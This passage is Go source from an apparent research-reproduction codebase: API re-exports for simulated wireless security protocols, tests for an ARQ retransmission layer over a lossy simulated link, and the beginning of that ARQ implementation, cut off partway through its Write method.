	// SimulateBatteryFigure regenerates Figure 4 by simulation.
	SimulateBatteryFigure = core.SimulateBatteryFigure
	// ComputeLossFigure prices 1 KB transactions against channel BER
	// analytically (Figure 4 on a lossy link).
	ComputeLossFigure = core.ComputeLossFigure
	// SimulateLossFigure cross-checks the loss figure over a real
	// chaos+ARQ link, itemizing retransmission energy in the ledger.
	SimulateLossFigure = core.SimulateLossFigure
	// DefaultLossBERs is the loss figure's bit-error-rate axis.
	DefaultLossBERs = core.DefaultLossBERs
	// EvolutionTimeline regenerates Figure 2's data.
	EvolutionTimeline = core.EvolutionTimeline
	// RenderTimeline renders Figure 2 as text.
	RenderTimeline = core.RenderTimeline
	// RevisionRate computes revisions/year for a protocol family.
	RevisionRate = core.RevisionRate
	// AcceleratorAblation runs experiment B1.
	AcceleratorAblation = core.AcceleratorAblation
	// Concerns returns the Figure 1 taxonomy.
	Concerns = core.Concerns

	// NewCA creates a certificate authority.
	NewCA = wtls.NewCA
	// NewSessionCache creates an unbounded resumption cache.
	NewSessionCache = wtls.NewSessionCache
	// NewSessionCacheSized creates a resumption cache with an LRU entry
	// cap and a TTL (either may be zero for unlimited).
	NewSessionCacheSized = wtls.NewSessionCacheSized
	// WTLSClient wraps a transport as a WTLS client.
	WTLSClient = wtls.Client
	// WTLSServer wraps a transport as a WTLS server.
	WTLSServer = wtls.Server
	// AllSuites lists every registered cipher suite.
	AllSuites = suite.All
	// SuiteByName looks up a cipher suite.
	SuiteByName = suite.ByName
	// DefaultSuites is the server-side preference list.
	DefaultSuites = suite.DefaultServerPreference
	// NewStack creates an empty layered stack over a transport.
	NewStack = stack.New
	// NewDuplexPipe returns two connected in-memory transports (the
	// simulated radio link).
	NewDuplexPipe = stack.Pipe
	// NewWEPEndpoint creates a WEP link endpoint.
	NewWEPEndpoint = wep.NewEndpoint
	// NewFaultyTransport wraps a transport with fault injection.
	NewFaultyTransport = chaos.New
	// NewARQEndpoint runs an ARQ reliability layer over a frame
	// transport (stacks usually use Stack.PushARQ instead).
	NewARQEndpoint = arq.New
	// ErrLinkDown is returned when ARQ gives up after max retries.
	ErrLinkDown = arq.ErrLinkDown
	// GenerateRSAKey generates an RSA key pair.
	GenerateRSAKey = rsa.GenerateKey
	// Oakley2 returns the 1024-bit MODP DH group.
	Oakley2 = dh.Oakley2

	// BuildBootChain hashes a boot chain and returns its ROM root.
	BuildBootChain = see.BuildChain
	// VerifyBootChain verifies a boot chain against its ROM root.
	VerifyBootChain = see.Boot
	// NewKeyStore creates sealed secure storage.
	NewKeyStore = see.NewKeyStore
	// NewDRMAgent creates a DRM enforcement agent.
	NewDRMAgent = see.NewDRMAgent
	// StandardMemoryLayout builds the Figure 6 secure memory map.
	StandardMemoryLayout = see.StandardLayout

	// NewSIM provisions a SIM with a subscriber key.
	NewSIM = bearer.NewSIM
	// NewAuthCenter creates a bearer authentication center.
	NewAuthCenter = bearer.NewAuthCenter
	// NewBearerChannel opens an A5/1-ciphered channel.
	NewBearerChannel = bearer.NewChannel
	// A5Frame generates one frame's A5/1 keystream bursts.
	A5Frame = bearer.A5Frame

	// NewAdaptivePolicy builds a battery-aware suite policy.
	NewAdaptivePolicy = core.NewAdaptivePolicy
	// DefaultAdaptivePolicy is the three-tier default policy.
	DefaultAdaptivePolicy = core.DefaultAdaptivePolicy
	// CompareAdaptiveLifetime measures the adaptive-security payoff.
	CompareAdaptiveLifetime = core.CompareAdaptiveLifetime
	// SessionEnergyJ prices one session on a CPU and radio.
	SessionEnergyJ = core.SessionEnergyJ

	// NewBiometricSubject draws a random ground-truth biometric.
	NewBiometricSubject = biometric.NewSubject
	// EnrollBiometric averages scans into a template.
	EnrollBiometric = biometric.Enroll
	// BiometricRates estimates FAR/FRR for a threshold.
	BiometricRates = biometric.Rates
	// NewUserVerifier builds the user-identification block.
	NewUserVerifier = biometric.NewVerifier

	// NewSmartCard creates a simulated smart card.
	NewSmartCard = smartcard.New
	// SoftwarePacketServer models protocol processing on the host CPU.
	SoftwarePacketServer = proc.SoftwareServer
	// EnginePacketServer models a dedicated protocol engine.
	EnginePacketServer = proc.EngineServer
	// SimulatePacketQueue runs the Section 4.2.3 queueing simulation.
	SimulatePacketQueue = proc.SimulateQueue
	// CBRStream generates a constant-bit-rate packet stream.
	CBRStream = proc.CBRStream

	// SignDual produces a SET-style dual signature.
	SignDual = setpay.Sign
	// VerifyDualAsMerchant checks a dual signature from the merchant's
	// (card-blind) view.
	VerifyDualAsMerchant = setpay.VerifyAsMerchant
	// VerifyDualAsGateway checks a dual signature from the gateway's
	// (order-blind) view.
	VerifyDualAsGateway = setpay.VerifyAsGateway
)

// Cost-model workload identifiers (re-exported for figure parameters).
const (
	Alg3DES = cost.DES3
	AlgDES  = cost.DES
	AlgAES  = cost.AES
	AlgRC4  = cost.RC4
	AlgRC2  = cost.RC2
	AlgSHA1 = cost.SHA1
	AlgMD5  = cost.MD5

	HandshakeRSA1024 = cost.HandshakeRSA1024
	HandshakeRSA768  = cost.HandshakeRSA768
	HandshakeRSA512  = cost.HandshakeRSA512
	HandshakeDH1024  = cost.HandshakeDH1024
	HandshakeResume  = cost.HandshakeResume
)

// WEPIVSequential and WEPIVConstant are the link-layer IV policies.
const (
	WEPIVSequential = wep.IVSequential
	WEPIVConstant   = wep.IVConstant
)

// DefaultARQPipeline is the simulated loss figure's default transmit-
// pipeline depth (crypto of frame k overlaps transmit of frame k-1).
const DefaultARQPipeline = core.DefaultARQPipeline
