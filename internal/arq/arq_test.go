package arq_test

import (
	"bytes"
	"errors"
	"io"
	"sync"
	"testing"
	"time"

	"repro/internal/arq"
	"repro/internal/chaos"
	"repro/internal/stack"
)

// duplexLink builds a two-ended ARQ link whose a→b and b→a directions run
// over independently seeded fault channels.
func duplexLink(t *testing.T, aCfg, bCfg chaos.Config, cfg arq.Config) (ea, eb *arq.Endpoint) {
	t.Helper()
	a, b := stack.Pipe()
	ta, err := chaos.New(a, aCfg)
	if err != nil {
		t.Fatal(err)
	}
	tb, err := chaos.New(b, bCfg)
	if err != nil {
		t.Fatal(err)
	}
	ea, err = arq.New(ta, cfg)
	if err != nil {
		t.Fatal(err)
	}
	eb, err = arq.New(tb, cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ea.Close(); eb.Close() })
	return ea, eb
}

func TestReliableRoundtripPerfectLink(t *testing.T) {
	ea, eb := duplexLink(t, chaos.Config{}, chaos.Config{}, arq.Config{})
	msg := bytes.Repeat([]byte("stop-and-wait "), 100) // several MTUs
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		if _, err := io.ReadFull(eb, buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- errors.New("payload mismatch")
			return
		}
		_, err := eb.Write(buf)
		done <- err
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	back := make([]byte, len(msg))
	if _, err := io.ReadFull(ea, back); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back, msg) {
		t.Fatal("echo mismatch")
	}
	st := ea.Stats()
	if st.Retransmits != 0 {
		t.Fatalf("perfect link retransmitted: %+v", st)
	}
	if st.PayloadOut != len(msg) || st.PayloadIn != len(msg) {
		t.Fatalf("payload accounting: %+v", st)
	}
	if st.BytesOut <= st.PayloadOut {
		t.Fatal("wire bytes should exceed payload (framing overhead)")
	}
}

func TestRecoversFromLossAndCorruption(t *testing.T) {
	lossy := func(seed int64) chaos.Config {
		return chaos.Config{Seed: seed, Drop: 0.15, BER: 5e-5, Dup: 0.02, Reorder: 0.02}
	}
	cfg := arq.Config{RetransmitTimeout: 5 * time.Millisecond, MaxRetries: 40}
	ea, eb := duplexLink(t, lossy(1), lossy(2), cfg)

	msg := make([]byte, 8<<10)
	for i := range msg {
		msg[i] = byte(i * 131)
	}
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		if _, err := io.ReadFull(eb, buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- errors.New("corrupted delivery")
			return
		}
		done <- nil
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	st := ea.Stats()
	if st.Retransmits == 0 {
		t.Fatalf("15%% loss produced no retransmits: %+v", st)
	}
	if st.RetransmitBytes == 0 || st.Goodput() >= 1 {
		t.Fatalf("retransmission accounting missing: %+v", st)
	}
}

func TestSlidingWindowPipelines(t *testing.T) {
	cfg := arq.Config{Window: 16, MTU: 64}
	ea, eb := duplexLink(t, chaos.Config{}, chaos.Config{}, cfg)
	msg := bytes.Repeat([]byte{0xC3}, 64*100)
	go func() {
		buf := make([]byte, len(msg))
		io.ReadFull(eb, buf) //nolint:errcheck
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	if st := ea.Stats(); st.DataSent != 100 {
		t.Fatalf("expected 100 data frames, got %+v", st)
	}
}

func TestSequenceNumberWraparound(t *testing.T) {
	cfg := arq.Config{Window: 32, MTU: 1}
	ea, eb := duplexLink(t, chaos.Config{}, chaos.Config{}, cfg)
	const n = 70000 // > 2^16 frames at MTU 1
	msg := make([]byte, n)
	for i := range msg {
		msg[i] = byte(i)
	}
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, n)
		if _, err := io.ReadFull(eb, buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- errors.New("wraparound scrambled data")
			return
		}
		done <- nil
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

func TestLinkDownAfterMaxRetries(t *testing.T) {
	blackhole := chaos.Config{Seed: 9, Drop: 1}
	cfg := arq.Config{RetransmitTimeout: time.Millisecond, Backoff: 1, MaxRetries: 3}
	ea, _ := duplexLink(t, blackhole, chaos.Config{}, cfg)

	start := time.Now()
	_, err := ea.Write([]byte("into the void"))
	if !errors.Is(err, arq.ErrLinkDown) {
		t.Fatalf("want ErrLinkDown, got %v", err)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatal("give-up took unreasonably long")
	}
	if !ea.Down() {
		t.Fatal("Down() should report the dead link")
	}
	// The link stays down for subsequent operations.
	if _, err := ea.Write([]byte("x")); !errors.Is(err, arq.ErrLinkDown) {
		t.Fatalf("second write: want ErrLinkDown, got %v", err)
	}
	if _, err := ea.Read(make([]byte, 1)); !errors.Is(err, arq.ErrLinkDown) {
		t.Fatalf("read: want ErrLinkDown, got %v", err)
	}
}

func TestDuplicateFramesDeliveredOnce(t *testing.T) {
	dup := chaos.Config{Seed: 7, Dup: 1}
	ea, eb := duplexLink(t, dup, chaos.Config{}, arq.Config{})
	msg := []byte("exactly once")
	go ea.Write(msg) //nolint:errcheck
	buf := make([]byte, len(msg))
	if _, err := io.ReadFull(eb, buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf, msg) {
		t.Fatal("payload mismatch")
	}
	// Allow the duplicate to land before checking.
	deadline := time.Now().Add(time.Second)
	for eb.Stats().Duplicates == 0 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	st := eb.Stats()
	if st.Duplicates == 0 {
		t.Fatalf("duplicated frames not detected: %+v", st)
	}
	if st.PayloadIn != len(msg) {
		t.Fatalf("duplicate delivered twice: %+v", st)
	}
}

func TestCorruptionDetectedByCRC(t *testing.T) {
	noisy := chaos.Config{Seed: 8, BER: 2e-4} // ~30% of ~250-byte frames corrupted
	cfg := arq.Config{RetransmitTimeout: 3 * time.Millisecond, MaxRetries: 60}
	ea, eb := duplexLink(t, noisy, chaos.Config{}, cfg)
	msg := bytes.Repeat([]byte{0x5A}, 4<<10)
	go ea.Write(msg) //nolint:errcheck
	buf := make([]byte, len(msg))
	if _, err := io.ReadFull(eb, buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf, msg) {
		t.Fatal("CRC let corruption through")
	}
	if st := eb.Stats(); st.CRCErrors == 0 {
		t.Fatalf("BER 2e-3 produced no CRC rejects: %+v", st)
	}
}

func TestEnergyHooksSeeEveryWireFrame(t *testing.T) {
	var mu sync.Mutex
	txBytes, retxBytes, rxBytes := 0, 0, 0
	cfg := arq.Config{
		RetransmitTimeout: 5 * time.Millisecond,
		MaxRetries:        40,
		OnTransmit: func(n int, retx bool) {
			mu.Lock()
			txBytes += n
			if retx {
				retxBytes += n
			}
			mu.Unlock()
		},
		OnReceive: func(n int) {
			mu.Lock()
			rxBytes += n
			mu.Unlock()
		},
	}
	// Build the link by hand: the hooks must observe ea's wire activity
	// only, so eb runs an unhooked config.
	a, b := stack.Pipe()
	ta, err := chaos.New(a, chaos.Config{Seed: 3, Drop: 0.2})
	if err != nil {
		t.Fatal(err)
	}
	tb, err := chaos.New(b, chaos.Config{})
	if err != nil {
		t.Fatal(err)
	}
	ea, err := arq.New(ta, cfg)
	if err != nil {
		t.Fatal(err)
	}
	eb, err := arq.New(tb, arq.Config{RetransmitTimeout: 5 * time.Millisecond, MaxRetries: 40})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ea.Close(); eb.Close() })
	msg := bytes.Repeat([]byte{1}, 4<<10)
	go func() {
		buf := make([]byte, len(msg))
		io.ReadFull(eb, buf) //nolint:errcheck
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	st := ea.Stats()
	mu.Lock()
	defer mu.Unlock()
	if txBytes != st.BytesOut {
		t.Fatalf("OnTransmit saw %d bytes, stats say %d", txBytes, st.BytesOut)
	}
	if retxBytes != st.RetransmitBytes {
		t.Fatalf("OnTransmit retx saw %d bytes, stats say %d", retxBytes, st.RetransmitBytes)
	}
	if retxBytes == 0 {
		t.Fatal("20% drop produced no retransmit energy")
	}
	if rxBytes != st.BytesIn {
		t.Fatalf("OnReceive saw %d bytes, stats say %d", rxBytes, st.BytesIn)
	}
}

func TestCloseUnblocksReader(t *testing.T) {
	ea, _ := duplexLink(t, chaos.Config{}, chaos.Config{}, arq.Config{})
	errCh := make(chan error, 1)
	go func() {
		_, err := ea.Read(make([]byte, 1))
		errCh <- err
	}()
	time.Sleep(10 * time.Millisecond)
	if err := ea.Close(); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-errCh:
		if err != io.EOF && !errors.Is(err, io.ErrClosedPipe) {
			t.Fatalf("want EOF-ish, got %v", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("Read still blocked after Close")
	}
}

func TestPeerCloseSurfacesEOF(t *testing.T) {
	ea, eb := duplexLink(t, chaos.Config{}, chaos.Config{}, arq.Config{})
	msg := []byte("last words")
	if err := func() error {
		done := make(chan error, 1)
		go func() {
			buf := make([]byte, len(msg))
			if _, err := io.ReadFull(eb, buf); err != nil {
				done <- err
				return
			}
			done <- nil
		}()
		if _, err := ea.Write(msg); err != nil {
			return err
		}
		return <-done
	}(); err != nil {
		t.Fatal(err)
	}
	if err := ea.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := eb.Read(make([]byte, 1)); err != io.EOF {
		t.Fatalf("want EOF after peer close, got %v", err)
	}
}

func TestConcurrentBidirectionalTraffic(t *testing.T) {
	lossy := func(seed int64) chaos.Config {
		return chaos.Config{Seed: seed, Drop: 0.05, BER: 1e-5}
	}
	cfg := arq.Config{Window: 4, RetransmitTimeout: 5 * time.Millisecond, MaxRetries: 40}
	ea, eb := duplexLink(t, lossy(11), lossy(12), cfg)

	aMsg := bytes.Repeat([]byte{0xAA}, 4<<10)
	bMsg := bytes.Repeat([]byte{0xBB}, 4<<10)
	var wg sync.WaitGroup
	fail := make(chan error, 4)
	wg.Add(4)
	go func() { defer wg.Done(); _, err := ea.Write(aMsg); fail <- err }()
	go func() { defer wg.Done(); _, err := eb.Write(bMsg); fail <- err }()
	go func() {
		defer wg.Done()
		buf := make([]byte, len(bMsg))
		_, err := io.ReadFull(ea, buf)
		if err == nil && !bytes.Equal(buf, bMsg) {
			err = errors.New("a received garbage")
		}
		fail <- err
	}()
	go func() {
		defer wg.Done()
		buf := make([]byte, len(aMsg))
		_, err := io.ReadFull(eb, buf)
		if err == nil && !bytes.Equal(buf, aMsg) {
			err = errors.New("b received garbage")
		}
		fail <- err
	}()
	wg.Wait()
	close(fail)
	for err := range fail {
		if err != nil {
			t.Fatal(err)
		}
	}
}

func TestNilTransportRejected(t *testing.T) {
	if _, err := arq.New(nil, arq.Config{}); err == nil {
		t.Fatal("accepted nil transport")
	}
}
