// Package arq adds a retransmission-based reliability layer (Automatic
// Repeat reQuest) over an unreliable frame-oriented link such as
// chaos.FaultyTransport.
//
// The paper prices security protocols on a perfect radio; real sensor
// and 802.11 channels drop and corrupt frames, and every recovery costs
// transmit energy the battery ledger must see. This layer supplies the
// recovery machinery: CRC-32 frame checks, sequence numbers, cumulative
// acks, a retransmit timer with exponential backoff, a configurable
// sliding window (window 1 = classic stop-and-wait), and a typed
// ErrLinkDown give-up so upper layers can degrade gracefully instead of
// hanging. Retransmissions and acks are reported through the OnTransmit
// and OnReceive hooks so radio.Radio / energy.Battery can charge them.
//
// An Endpoint turns the lossy datagram link into a reliable byte stream:
// Write blocks until the written bytes are acknowledged (or the link is
// declared down), Read returns in-order delivered bytes. It plugs into
// stack.Stack via Stack.PushARQ as the bottom layer of the protocol
// hierarchy.
package arq

import (
	"errors"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/cost"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
)

// Static energy/cycle profile frames: the link layer's per-frame CRC
// work, with repair traffic (go-back-N resends) attributed separately
// from first transmissions so retransmission overhead shows up as its
// own flame.
var (
	pTxCRC   = prof.Frame("arq.Transmit/crc32")
	pRetxCRC = prof.Frame("arq.Retransmit/crc32")
)

// Static metric handles mirroring the per-endpoint Stats as process
// totals, so a -metrics run attributes wire traffic and repair work to
// the reliability layer without touching any endpoint. Disarmed by
// default.
var (
	mDataSent    = obs.C("arq.data_sent")
	mRetransmits = obs.C("arq.retransmits")
	mAcksSent    = obs.C("arq.acks_sent")
	mAcksRcvd    = obs.C("arq.acks_rcvd")
	mCRCErrors   = obs.C("arq.crc_errors")
	mDuplicates  = obs.C("arq.duplicates")
	mOutOfOrder  = obs.C("arq.out_of_order")
	mBytesOut    = obs.C("arq.bytes_out")
	mBytesIn     = obs.C("arq.bytes_in")
	mRetxBytes   = obs.C("arq.retransmit_bytes")
	mLinkDowns   = obs.C("arq.link_downs")
)

// ErrLinkDown reports that the retransmit budget was exhausted without an
// acknowledgement; the link is declared dead and all subsequent reads and
// writes fail. Test with errors.Is.
var ErrLinkDown = errors.New("arq: link down")

// Config parameterizes an Endpoint. Zero values select the defaults.
type Config struct {
	// Window is the maximum number of unacknowledged DATA frames in
	// flight; 1 (the default) is stop-and-wait.
	Window int
	// MTU is the maximum payload bytes per DATA frame (default 240).
	MTU int
	// RetransmitTimeout is the base retransmit timer (default 15ms).
	RetransmitTimeout time.Duration
	// Backoff multiplies the timeout after each consecutive retransmit
	// without progress (default 1.5).
	Backoff float64
	// MaxRetries is how many consecutive timeouts are tolerated before
	// the link is declared down (default 10).
	MaxRetries int

	// Pipeline, when > 0, stages first transmissions through a bounded
	// queue of this depth drained by a dedicated transmit goroutine, so
	// the upper layer's crypto for frame k overlaps the (simulated)
	// radio transmit of frame k-1. The single consumer preserves FIFO
	// frame order, so seeded fault schedules — and with them the figure
	// outputs — are unchanged. 0 (the default) transmits synchronously
	// from Write.
	Pipeline int

	// OnTransmit, when set, observes every frame put on the wire: its
	// length in bytes (ARQ header and CRC included) and whether it is a
	// retransmission. Acks report retransmit=false.
	OnTransmit func(bytes int, retransmit bool)
	// OnReceive, when set, observes every frame taken off the wire.
	OnReceive func(bytes int)
}

func (c Config) withDefaults() Config {
	if c.Window <= 0 {
		c.Window = 1
	}
	if c.MTU <= 0 {
		c.MTU = 240
	}
	if c.RetransmitTimeout <= 0 {
		c.RetransmitTimeout = 15 * time.Millisecond
	}
	if c.Backoff < 1 {
		c.Backoff = 1.5
	}
	if c.MaxRetries <= 0 {
		c.MaxRetries = 10
	}
	return c
}

// Stats counts the layer's work. Byte counters include ARQ framing
// overhead; payload counters are application bytes.
type Stats struct {
	DataSent    int // first transmissions of DATA frames
	Retransmits int // DATA frames sent again by the timer
	AcksSent    int
	AcksRcvd    int

	CRCErrors  int // inbound frames discarded (bad CRC, short, bad type)
	Duplicates int // inbound DATA below the expected sequence (re-acked)
	OutOfOrder int // inbound DATA beyond the expected sequence (dropped)
	StaleAcks  int // acks for frames never sent (corrupt or ancient)

	BytesOut        int // wire bytes written, incl. retransmits and acks
	BytesIn         int // wire bytes read
	RetransmitBytes int // wire bytes attributable to retransmissions
	PayloadOut      int // application bytes accepted by Write
	PayloadIn       int // application bytes delivered to Read
}

// Goodput is the fraction of outbound wire bytes that carried first-time
// application payload — the efficiency the channel noise taxes.
func (s Stats) Goodput() float64 {
	if s.BytesOut == 0 {
		return 0
	}
	return float64(s.PayloadOut) / float64(s.BytesOut)
}

// Endpoint is one end of a reliable link over an unreliable frame
// transport. The lower transport must be datagram-oriented: each Write
// sends one frame, each Read returns exactly one frame.
type Endpoint struct {
	lower io.ReadWriter
	cfg   Config

	wmu    sync.Mutex // serializes frame writes to lower
	sendMu sync.Mutex // serializes Write callers

	mu       sync.Mutex
	readable *sync.Cond // rcvBuf grew, or the link state changed
	rcvBuf   []byte
	rcvNext  uint16
	sendBase uint16   // oldest unacknowledged sequence
	nextSeq  uint16   // next sequence to assign
	inflight [][]byte // encoded unacked DATA frames; [0] carries sendBase
	stats    Stats
	err      error // terminal link error
	closed   bool

	ackCh chan struct{} // cap-1 wakeup for the sending side

	// Two-stage transmit pipeline (nil when Config.Pipeline == 0): Write
	// enqueues encoded DATA frames, txLoop drains them onto the wire.
	// Transmit errors surface through fail/err like synchronous ones.
	txq    chan []byte
	txQuit chan struct{}
	txOnce sync.Once

	// tparent, when set, is the distributed-trace span under which this
	// endpoint records its repair work (retransmit frames, backoff
	// waits). Nil — the default — costs one atomic load per site.
	tparent atomic.Pointer[obs.DSpan]
}

// SetTraceParent attaches sp as the distributed-trace parent for the
// endpoint's retransmit and backoff-wait spans (nil detaches), so link
// repair shows up on the critical path of whatever session drives it.
func (e *Endpoint) SetTraceParent(sp *obs.DSpan) { e.tparent.Store(sp) }

// New starts a reliability endpoint over lower and launches its receive
// loop. Close the endpoint to stop the loop (lower is closed too when it
// implements io.Closer).
func New(lower io.ReadWriter, cfg Config) (*Endpoint, error) {
	if lower == nil {
		return nil, errors.New("arq: nil transport")
	}
	e := &Endpoint{lower: lower, cfg: cfg.withDefaults(), ackCh: make(chan struct{}, 1)}
	e.readable = sync.NewCond(&e.mu)
	if e.cfg.Pipeline > 0 {
		e.txq = make(chan []byte, e.cfg.Pipeline)
		e.txQuit = make(chan struct{})
		go e.txLoop()
	}
	go e.recvLoop()
	return e, nil
}

// txLoop is the second pipeline stage: the sole consumer of the transmit
// queue, so frames reach the wire in exactly the order Write produced
// them. A transmit error is recorded by transmit itself (fail); the loop
// keeps draining so enqueuers never block against a dead link.
func (e *Endpoint) txLoop() {
	for {
		select {
		case f := <-e.txq:
			_ = e.transmit(f, false)
		case <-e.txQuit:
			return
		}
	}
}

// send puts a first-transmission DATA frame on the wire: staged through
// the pipeline when one is configured, synchronously otherwise. In the
// pipelined case errors surface asynchronously via the endpoint error,
// which the sender's awaitAck observes.
func (e *Endpoint) send(frame []byte) error {
	if e.txq == nil {
		return e.transmit(frame, false)
	}
	select {
	case e.txq <- frame:
		return nil
	case <-e.txQuit:
		return io.ErrClosedPipe
	}
}

// recvLoop drains the lower transport, dispatching acks to the sender and
// data to the read buffer. It exits on transport error or Close.
func (e *Endpoint) recvLoop() {
	buf := make([]byte, e.cfg.MTU+overhead+64)
	for {
		n, err := e.lower.Read(buf)
		if err != nil {
			e.fail(err)
			return
		}
		if e.cfg.OnReceive != nil {
			e.cfg.OnReceive(n)
		}
		e.mu.Lock()
		e.stats.BytesIn += n
		e.mu.Unlock()
		mBytesIn.Add(int64(n))
		e.handleFrame(buf[:n])
	}
}

// handleFrame processes one inbound wire frame. Malformed frames of any
// shape are counted and dropped; they must never panic (fuzzed).
func (e *Endpoint) handleFrame(raw []byte) {
	typ, seq, payload, err := parseFrame(raw)
	if err != nil {
		e.mu.Lock()
		e.stats.CRCErrors++
		e.mu.Unlock()
		mCRCErrors.Inc()
		return
	}
	switch typ {
	case frameAck:
		mAcksRcvd.Inc()
		e.mu.Lock()
		e.stats.AcksRcvd++
		if seqLess(e.nextSeq, seq) {
			// Acknowledges frames never sent: stale or corrupted-but-
			// CRC-valid. Ignore.
			e.stats.StaleAcks++
			e.mu.Unlock()
			return
		}
		advanced := false
		for len(e.inflight) > 0 && seqLess(e.sendBase, seq) {
			e.inflight = e.inflight[1:]
			e.sendBase++
			advanced = true
		}
		e.mu.Unlock()
		if advanced {
			e.wakeSender()
		}
	case frameData:
		e.mu.Lock()
		switch {
		case seq == e.rcvNext:
			e.rcvBuf = append(e.rcvBuf, payload...)
			e.stats.PayloadIn += len(payload)
			e.rcvNext++
			e.readable.Broadcast()
		case seqLess(seq, e.rcvNext):
			e.stats.Duplicates++
			mDuplicates.Inc()
		default:
			e.stats.OutOfOrder++
			mOutOfOrder.Inc()
		}
		ack := e.rcvNext
		e.mu.Unlock()
		e.sendAck(ack)
	}
}

// wakeSender nudges a Write blocked in awaitAck.
func (e *Endpoint) wakeSender() {
	select {
	case e.ackCh <- struct{}{}:
	default:
	}
}

// fail records the terminal link error and wakes everyone.
func (e *Endpoint) fail(err error) {
	e.mu.Lock()
	if e.err == nil {
		e.err = err
	}
	e.readable.Broadcast()
	e.mu.Unlock()
	e.wakeSender()
}

// transmit puts one encoded frame on the wire and accounts it.
func (e *Endpoint) transmit(frame []byte, retransmit bool) error {
	var tsp *obs.DSpan
	var t0 int64
	if retransmit {
		if tsp = e.tparent.Load(); tsp != nil {
			t0 = obs.DTraceNowUS()
		}
	}
	e.wmu.Lock()
	_, err := e.lower.Write(frame)
	e.wmu.Unlock()
	if err != nil {
		e.fail(err)
		return err
	}
	e.mu.Lock()
	e.stats.BytesOut += len(frame)
	var retxNo int
	if retransmit {
		e.stats.Retransmits++
		e.stats.RetransmitBytes += len(frame)
		retxNo = e.stats.Retransmits
	}
	e.mu.Unlock()
	mBytesOut.Add(int64(len(frame)))
	if retransmit {
		mRetransmits.Inc()
		mRetxBytes.Add(int64(len(frame)))
		obs.Emit("arq", "retransmit", int64(len(frame)))
		if tsp != nil {
			tsp.Event("arq", "retransmit", t0, obs.DTraceNowUS()-t0, int64(len(frame)))
		}
		journal.Emit(int64(retxNo), journal.LevelDebug, "arq", "retransmit",
			journal.I("frame_bytes", int64(len(frame))))
	}
	if prof.Enabled() {
		instr := int64(cost.InstrPerByte(cost.CRC32) * float64(len(frame)))
		if retransmit {
			pRetxCRC.AddCycles(instr)
		} else {
			pTxCRC.AddCycles(instr)
		}
	}
	if e.cfg.OnTransmit != nil {
		e.cfg.OnTransmit(len(frame), retransmit)
	}
	return nil
}

// sendAck emits a cumulative ack for everything below seq.
func (e *Endpoint) sendAck(seq uint16) {
	frame := encodeFrame(frameAck, seq, nil)
	e.mu.Lock()
	e.stats.AcksSent++
	e.mu.Unlock()
	mAcksSent.Inc()
	_ = e.transmit(frame, false) // an unsendable ack surfaces via e.err
}

// retransmitWindow resends every unacknowledged frame (go-back-N).
func (e *Endpoint) retransmitWindow() error {
	e.mu.Lock()
	pending := make([][]byte, len(e.inflight))
	copy(pending, e.inflight)
	e.mu.Unlock()
	for _, f := range pending {
		if err := e.transmit(f, true); err != nil {
			return err
		}
	}
	return nil
}

// awaitAck blocks until ok (evaluated under the endpoint lock) holds,
// retransmitting the window on timeout with exponential backoff and
// declaring the link down after MaxRetries consecutive silent timeouts.
func (e *Endpoint) awaitAck(ok func() bool) error {
	timeout := e.cfg.RetransmitTimeout
	retries := 0
	for {
		e.mu.Lock()
		if e.err != nil {
			err := e.err
			e.mu.Unlock()
			return err
		}
		if e.closed {
			e.mu.Unlock()
			return io.ErrClosedPipe
		}
		if ok() {
			e.mu.Unlock()
			return nil
		}
		seq := e.sendBase
		e.mu.Unlock()

		var tsp *obs.DSpan
		var w0 int64
		if tsp = e.tparent.Load(); tsp != nil {
			w0 = obs.DTraceNowUS()
		}
		select {
		case <-e.ackCh:
			// Progress (or failure) — reset the backoff clock.
			retries = 0
			timeout = e.cfg.RetransmitTimeout
		case <-time.After(timeout):
			if tsp != nil {
				// Only timed-out waits become spans: an ack that arrives
				// in time is progress, not backoff.
				tsp.Event("arq", "backoff_wait", w0, obs.DTraceNowUS()-w0, timeout.Microseconds())
			}
			retries++
			if retries > e.cfg.MaxRetries {
				err := fmt.Errorf("%w: seq %d unacknowledged after %d attempts",
					ErrLinkDown, seq, retries)
				mLinkDowns.Inc()
				obs.Emit("arq", "link_down", int64(seq))
				journal.Emit(int64(seq), journal.LevelWarn, "arq", "link_down",
					journal.I("seq", int64(seq)), journal.I("attempts", int64(retries)))
				e.fail(err)
				return err
			}
			if err := e.retransmitWindow(); err != nil {
				return err
			}
			timeout = time.Duration(float64(timeout) * e.cfg.Backoff)
		}
	}
}

// Write chunks p into DATA frames, transmits them under the sliding
// window, and returns once every byte is acknowledged. On error the
// returned count is the bytes accepted into the send window, not
// necessarily acknowledged.
func (e *Endpoint) Write(p []byte) (int, error) {
	e.sendMu.Lock()
	defer e.sendMu.Unlock()
	total := 0
	for len(p) > 0 {
		if err := e.awaitAck(func() bool { return len(e.inflight) < e.cfg.Window }); err != nil {
			return total, err
		}
		n := len(p)
